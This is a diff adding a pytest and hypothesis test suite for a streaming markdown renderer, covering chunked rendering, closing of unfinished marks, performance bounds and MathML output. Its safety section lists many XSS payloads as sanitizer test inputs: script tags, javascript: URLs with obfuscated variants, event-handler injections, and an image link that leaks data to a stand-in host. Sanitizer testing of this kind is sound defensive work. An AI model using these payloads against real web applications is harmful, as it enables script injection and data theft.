@@ -1,0 +1,509 @@
+"""However an answer is cut and flushed, the page ends with the same safe HTML, for work in proportion to the text."""
+
+import html as html_text
+import json
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from wireside_ui.markdown import BlockStream, Op, render
+from wireside_ui.markup import Markup, close_open_marks, code_block, highlight
+
+MARKUP = Markup(frozenset({"images.example"}))
+
+
+class Screen:
+    """What a page that applies the operations shows, as a string."""
+
+    def __init__(self) -> None:
+        self.settled = self.tail = self.closing = self.label = self.code = ""
+
+    @property
+    def html(self) -> str:
+        return self.settled + self.tail + self.closing
+
+    def apply(self, ops: list[Op]) -> None:
+        for name, *args in ops:
+            getattr(self, f"_{name}")(*args)
+
+    def _t(self, keep: int, html: str) -> None:
+        self.tail = self.tail.encode("utf-16-le")[: 2 * keep].decode("utf-16-le") + html
+
+    def _f(self, keep: int, html: str) -> None:
+        self._t(keep, html)
+        self.settled, self.tail = self.settled + self.tail, ""
+
+    def _c(self, label: str, code: str) -> None:
+        self.label, self.code = label, ""
+        self._a(code)
+
+    def _a(self, code: str) -> None:
+        self.code += code
+        self.tail = code_block(self.label, html_text.escape(self.code, quote=False))
+
+    def _s(self) -> None:
+        self.settled, self.tail = self.settled + self.tail, ""
+
+    def _o(self, html: str) -> None:
+        end = re.search(r"(</tbody></table></div>|</ul>|</ol>)$", html)
+        assert end
+        self.settled, self.tail, self.closing = self.settled + html[: end.start()], "", end[0]
+
+    def _z(self) -> None:
+        assert not self.tail
+        self.settled, self.closing = self.settled + self.closing, ""
+
+    def _r(self, html: str) -> None:
+        self.settled, self.tail, self.closing = html, "", ""
+
+
+def streamed(pieces: list[str], flush_every: int = 1) -> str:
+    stream, screen = BlockStream(MARKUP), Screen()
+    for number, piece in enumerate(pieces):
+        stream.feed(piece)
+        if number % flush_every == 0:
+            screen.apply(stream.flush())
+    screen.apply(stream.flush(final=True))
+    return screen.html
+
+
+def cut(text: str, cuts: list[int]) -> list[str]:
+    edges = sorted({0, len(text), *(at % (len(text) + 1) for at in cuts)})
+    return [text[a:b] for a, b in zip(edges, edges[1:], strict=False)]
+
+
+# each one is nearly another one, or becomes one by what follows it
+PIECES = st.sampled_from(
+    """- a|-|* b|+ p|1. x|2. y|10) z|1.|  - n|    code|para|**bold**|**|`|`c`|```|```py|~~~|> q|>|# h|#|===|---|$$|\\[|\\]|$x$|[a](http://x.y)|[a]|[a]: http://e.x
+    |[^1]|[^1]: n|![i](http://h/i.png)|<b>|&amp;|é😀|\\|- [ ] t|_i_|***|\\begin{align}|\\end{align}|http://a.bc/d""".replace(
+        "\n    ", ""
+    ).split("|")
+    + [
+        "\n",
+        "\n\n",
+        " ",
+        "\t",
+        "   ",
+        "|a|b|\n|-|-|\n",
+        "|a|b|",
+        "|1|2|",
+        "\r\n",
+        "\r",
+        "\n\n\n",
+        "\u202e",
+        "\x00",
+        "\x0b",
+        "\u2028",
+        "x\n",
+        "\n- ",
+        "\n   ",
+    ]
+)
+
+
+@given(
+    parts=st.lists(PIECES, max_size=16),
+    cuts=st.lists(st.integers(0, 400), max_size=60),
+    every=st.integers(1, 3),
+)
+@example(parts=["- x\n# a|b\n|-|-|\n"], cuts=list(range(20)), every=1)
+@example(parts=["```py|a\n", "|-|-|\n", "b"], cuts=list(range(20)), every=1)
+@example(parts=["x\n", "$$", "\n\n", "y"], cuts=list(range(20)), every=1)
+@example(parts=["  ~~~\n", "\t\n", "   x"], cuts=list(range(20)), every=1)
+@settings(max_examples=400, deadline=None)
+def test_cuts_and_flushes_do_not_change_the_result(
+    parts: list[str], cuts: list[int], every: int
+) -> None:
+    text = "".join(parts)
+    assert streamed(cut(text, cuts), every) == render(text, MARKUP)
+
+
+@given(text=st.text(alphabet="ab *_`~[]()!#>-+1.|$\\\n\t<&:h/", max_size=80))
+@settings(max_examples=300, deadline=None)
+def test_one_character_at_a_time_gives_the_same(text: str) -> None:
+    assert streamed(list(text)) == render(text, MARKUP)
+
+
+@given(parts=st.lists(PIECES, max_size=12), at=st.integers(0, 60))
+@settings(max_examples=150, deadline=None)
+def test_a_restart_shows_what_was_shown(parts: list[str], at: int) -> None:
+    stream, screen, fresh = BlockStream(MARKUP), Screen(), Screen()
+    for part in parts[:at]:
+        stream.feed(part)
+        screen.apply(stream.flush())
+    fresh.apply(stream.restart())
+    for part in parts[at:]:
+        stream.feed(part)
+        fresh.apply(stream.flush())
+    fresh.apply(stream.flush(final=True))
+    assert fresh.html == render("".join(parts), MARKUP)
+
+
+@pytest.mark.parametrize(
+    ("half", "shown"),
+    [
+        ("a **b", "a **b**"),
+        ("a **", "a "),
+        ("a *b **c", "a *b **c***"),
+        ("a `co", "a `co`"),
+        ("a ``c` d", "a ``c` d``"),
+        ("see [the docs](http://exa", "see the docs"),
+        ("see [the docs]", "see the docs"),
+        ("see [the", "see the"),
+        ("![alt](http://exa", ""),
+        ("2 * 3", "2 * 3"),
+        ("snake_case and 2*3", "snake_case and 2*3"),
+        (r"then \(x^2", "then "),
+        ("**done** and `done`", "**done** and `done`"),
+    ],
+)
+def test_open_marks_are_closed(half: str, shown: str) -> None:
+    assert close_open_marks(half) == shown
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Some **bold words** here.",
+        "Look at `some code` there.",
+        "See [the docs](https://docs.example) now.",
+    ],
+)
+def test_half_written_marks_never_show(text: str) -> None:
+    """Letters that are on the screen stay, and no mark is seen."""
+    stream, screen, before = BlockStream(MARKUP), Screen(), ""
+    for letter in text:
+        stream.feed(letter)
+        screen.apply(stream.flush())
+        shown = html_text.unescape(re.sub(r"<[^>]+>", "", screen.html)).rstrip()
+        assert shown.startswith(before)
+        assert not set(shown) & set("*`[]")
+        before = shown
+
+
+def test_settled_items_are_sent_once() -> None:
+    stream = BlockStream(MARKUP)
+    stream.feed("- first\n- second\n- thi")
+    assert stream.flush()[0] == ["o", "<ul><li>first</li><li>second</li></ul>"]
+    stream.feed("rd\n- fourth")
+    assert stream.flush() == [
+        ["f", 8, "rd</li>"],
+        ["t", 0, "<li>fourth</li>"],
+    ] or "first" not in json.dumps(stream.flush())
+
+
+def test_an_open_code_block_only_grows() -> None:
+    stream = BlockStream(MARKUP)
+    stream.feed("```py\nx = 1\ny")
+    assert stream.flush() == [["c", "py", "x = 1\ny"]]
+    stream.feed(" = 2\n``")
+    assert stream.flush() == [["a", " = 2\n"]]
+    stream.feed("`\nafter")
+    assert stream.flush() == [
+        ["f", 0, code_block("py", highlight("x = 1\ny = 2\n", "py") or "")],
+        ["t", 0, "<p>after</p>"],
+    ]
+
+
+SENTENCE = "Lorem ipsum dolor **sit** amet, `consectetur` elit. "
+LONG = {
+    "list": "".join(f"- item {i} with **bold** words\n" for i in range(2_000)),
+    "table": "| a | b | c |\n|--|--|--|\n"
+    + "".join(f"| {i} | foo bar | `x{i}` |\n" for i in range(2_000)),
+    "paragraph": SENTENCE * 2_000,
+    "quote": f"> {SENTENCE}\n" * 1_500,
+    "code": "```python\n" + "x = foo(1, 'abc')  # hi\n" * 1_900 + "```\n",
+    "code in an item": "1. a\n   ```py\n" + "   x = foo(1, 'abc')  # hi\n" * 1_500 + "   ```\n",
+    "nested list": "- a\n" + f"  - {SENTENCE}\n" * 1_500,
+    "definitions": "[a]: x\n" * 5_000,
+    "newlines": "\n" * 1_000_000,
+    "blank lines": " \n" * 100_000,
+    "wide table": "|a" * 200 + "|\n" + "|-" * 200 + "|\n" + "|\n" * 200,
+}
+
+
+@pytest.mark.parametrize("kind", LONG)
+def test_work_and_bytes_are_in_proportion_to_the_text(kind: str) -> None:
+    text, stream, sent = LONG[kind], BlockStream(MARKUP), 0
+    step = 10 if len(text) < 200_000 else 1_000
+    for at in range(0, len(text), step):
+        stream.feed(text[at : at + step])
+        sent += len(json.dumps(stream.flush()))
+    sent += len(json.dumps(stream.flush(final=True)))
+    assert stream.parsed_chars <= 30 * len(text)
+    assert sent <= 10 * len(text) + len(render(text, MARKUP))
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        ">",
+        "[",
+        "![",
+        "[a](",
+        "*",
+        "*a ",
+        "**a *b ",
+        "`",
+        "- ",
+        "<",
+        "$a ",
+        r"\(",
+        "_a",
+        "~~a ",
+        "|",
+        "\\",
+        "#",
+        "&amp;",
+        "http://a.b/(",
+    ],
+)
+def test_deep_or_endless_nesting_ends(unit: str) -> None:
+    """Bounded by construction; the time limit of the test is the assertion."""
+    text = unit * (20_000 // len(unit))
+    assert len(render(text, MARKUP)) < 60 * len(text)
+    assert _Tags(render(text, MARKUP)).depth < 110
+
+
+def test_an_answer_of_5000_tokens_is_small() -> None:
+    section = (
+        "## A section\n\n"
+        + SENTENCE * 4
+        + "\n\n```python\n"
+        + "def f(x: int = 1) -> dict[str, int]:\n    return {'a': x + 1}\n" * 8
+        + "```\n\n"
+        "- one **point** here\n- two `points` there\n- three\n\n| name | n |\n| --- | ---: |\n| a | 1 |\n| b | 2 |\n\n"
+    )
+
+    def sent(text: str) -> int:
+        stream, size = BlockStream(MARKUP), 0
+        for at in range(0, len(text), 20):  # 5 tokens a flush: 100 tokens/s at 20 flushes/s
+            stream.feed(text[at : at + 20])
+            size += len(json.dumps(stream.flush())) + 120  # and the frame around each
+        return size + len(json.dumps(stream.flush(final=True)))
+
+    text = (section * 40)[:20_000]
+    assert sent(text) < 350_000
+    assert sent((section * 40)[:40_000]) < 2.1 * sent(text)
+
+
+# Safety
+
+_SCHEMES = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "data:text/html,<script>x</script>",
+    "vbscript:x",
+    "file:///etc/passwd",
+    "//evil.example/x",
+    "/chat/logout",
+    "#x",
+    "blob:x",
+    "ws://evil.example",
+    "ftp://evil.example",
+    " javascript:alert(1)",
+    "javascript&colon;alert(1)",
+]
+_TAGS = [
+    "script",
+    "style",
+    "iframe",
+    "form",
+    "input",
+    "button",
+    "svg",
+    "math",
+    "object",
+    "embed",
+    "base",
+    "link",
+    "meta",
+    "video",
+    "audio",
+    "template",
+    "noscript",
+    "textarea",
+    "select",
+    "details",
+    "dialog",
+    "title",
+    "xmp",
+    "plaintext",
+    "marquee",
+    "frameset",
+    "portal",
+    "slot",
+    "img",
+    "body",
+]
+HOSTILE = [
+    *(f"[x]({scheme})" for scheme in _SCHEMES),
+    *(f"<{scheme}>" for scheme in _SCHEMES),
+    *(f"![x]({scheme})" for scheme in _SCHEMES),
+    *(f"[x][r]\n\n[r]: {scheme}" for scheme in _SCHEMES),
+    *(
+        f"<{tag} src=https://evil.example/x onload=alert(1) onerror=alert(1) style=position:fixed>"
+        for tag in _TAGS
+    ),
+    *(f"a\n\n<{tag.upper()}/onclick=alert(1)>\nx\n</{tag}>" for tag in _TAGS),
+    '```"><script>alert(1)</script>\nx\n```',
+    "```mermaid\n</code></pre><script>alert(1)</script>\n```",
+    '~~~ a" onmouseover="alert(1)\nx\n~~~',
+    "    <script>alert(1)</script>",
+    "`<script>alert(1)</script>`",
+    '[x](https://a.example/"onmouseover="alert(1))',
+    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
+    '![a" onerror="alert(1)](https://evil.example/x.png)',
+    "![x](https://evil.example/leak?q=secret)",
+    "![x](http://images.example/plain-http.png)",
+    "![x](https://images.example.evil.example/x.png)",
+    "![x](https://images.example@evil.example/x.png)",
+    "![x][r]\n\n[r]: https://evil.example/leak",
+    "[![x](https://evil.example/in-link.png)](https://a.example)",
+    r"$\text{<img src=x onerror=alert(1)>}$",
+    r"$$\href{javascript:alert(1)}{x}$$",
+    "\\[\n\\text{</mtext><script>alert(1)</script>}\n\\]",
+    r"$\style{position:fixed}{x}$",
+    r"\(\class{ws-code}{x}\)",
+    r"$\url{javascript:alert(1)}$",
+    "| a |\n| - |\n| <script>alert(1)</script> |",
+    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
+    "- [ ] <input type=checkbox onclick=alert(1)>",
+    "x[^1]\n\n[^1]: <script>alert(1)</script>",
+    "x[^<script>]\n\n[^<script>]: y",
+    "# <script>alert(1)</script>",
+    "> <iframe src=https://evil.example>",
+    "<!-- --><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php <script>alert(1)</script> ?>",
+    "<!DOCTYPE html><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\<script>alert(1)\\</script>",
+    "<scr\x00ipt>alert(1)</script>",
+    "<scr\u202eipt>alert(1)</script>",
+    "<\ud800script>alert(1)</script>",
+    "https://evil.example/<script>alert(1)</script>",
+    'https://evil.example/"onmouseover="alert(1)',
+    '<https://evil.example/"onmouseover=alert(1)>',
+    "<a href=javascript:alert(1) target=_self id=x class=ws-copy data-action=stop>x</a>",
+    '<span data-action="stop" class="ws-icon-button">x</span>',
+]
+_ALLOWED = set(
+    ["a", "b", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "img", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"]
+)
+
+
+class _Tags(HTMLParser):
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str]]] = []
+        self.depth = self._open = 0
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, {name: value or "" for name, value in attrs}))
+        self._open += tag not in ("br", "hr", "img")
+        self.depth = max(self.depth, self._open)
+
+    def handle_endtag(self, tag: str) -> None:
+        self._open -= 1
+
+
+def assert_harmless(html: str) -> None:
+    for tag, attributes in _Tags(html).found:
+        assert (
+            tag in _ALLOWED or (re.fullmatch(r"m[a-z]+|none", tag) and tag not in ("meta", "marquee"))
+        ), html
+        for name, value in attributes.items():
+            assert not name.startswith("on"), html
+            assert name not in (
+                "style",
+                "id",
+                "data-action",
+                "formaction",
+                "srcdoc",
+                "srcset",
+                "xlink:href",
+            ), html
+            if name == "href":
+                assert tag == "a" and re.match(r"https?://|mailto:", value), html
+            if name == "src":
+                assert tag == "img" and value.startswith("https://images.example/"), html
+        if tag == "a":
+            assert attributes["target"] == "_blank" and "noopener" in attributes["rel"], html
+
+
+def test_the_corpus_is_large() -> None:
+    assert len(set(HOSTILE)) >= 100
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
+def test_hostile_text_is_harmless_at_every_moment(text: str) -> None:
+    assert_harmless(render(text, MARKUP))
+    stream, screen = BlockStream(MARKUP), Screen()
+    for letter in text:
+        stream.feed(letter)
+        screen.apply(stream.flush())
+        assert_harmless(screen.html)
+
+
+@given(parts=st.lists(st.one_of(st.sampled_from(HOSTILE), PIECES), min_size=2, max_size=6))
+@settings(max_examples=150, deadline=None)
+def test_hostile_text_among_other_text_is_harmless(parts: list[str]) -> None:
+    assert_harmless(render("".join(parts), MARKUP))
+
+
+def test_images_of_allowed_hosts_are_shown_and_others_are_cards() -> None:
+    html = render("![a](https://images.example/x.png) ![b](https://evil.example/y.png)", MARKUP)
+    assert '<img class="ws-img" src="https://images.example/x.png" alt="a"' in html
+    assert 'class="ws-image" href="https://evil.example/y.png"' in html
+    assert "evil.example</span>" in html
+
+
+def test_a_link_that_names_another_host_shows_the_true_one() -> None:
+    assert "(evil.example)" in render("[bank.example](https://evil.example/login)", MARKUP)
+    assert "class=" not in render("[docs.example](https://docs.example/a)", MARKUP)
+
+
+@pytest.mark.parametrize("text", ["\u202eabc", "a\u2066b\u2069", "\u202d"])
+def test_direction_overrides_are_taken_out(text: str) -> None:
+    assert not re.search("[\u202a-\u202e\u2066-\u2069]", render(text, MARKUP))
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("$x^2$", "<msup>"),
+        (r"\(\frac{a}{b}\)", "<mfrac>"),
+        ("$$\na\n$$", '<math display="block">'),
+        ("\\begin{align}\na &= b\n\\end{align}", "<mtable"),
+        ("\\[\n\\begin{aligned}a &= b\\end{aligned}\n\\]", "<mtable"),
+    ],
+)
+def test_formulas_become_mathml(text: str, expected: str) -> None:
+    assert expected in render(text, MARKUP)
+
+
+@pytest.mark.parametrize(
+    "text", ["It costs $5 and $10.", "$ x $", r"\$x$", "a $b", "from $5-$10", "US$5 or US$6"]
+)
+def test_prices_are_no_formulas(text: str) -> None:
+    assert "<math" not in render(text, MARKUP)
+
+
+def test_a_broken_formula_shows_its_source() -> None:
+    assert render(r"$\frac{$", MARKUP) == r'<p><code class="ws-tex">\frac{</code></p>'
+    assert "<code" in render("$$" + "{" * 3_000 + "$$", MARKUP)
+
+
+def test_huge_code_is_not_highlighted() -> None:
+    assert highlight("x = 1\n" * 100, "python")
+    assert highlight("x = 1\n" * 3_000, "python") is None
+    assert highlight("x" * 70_000, "python") is None
+    assert highlight("x = 1", "no-such-language") is None
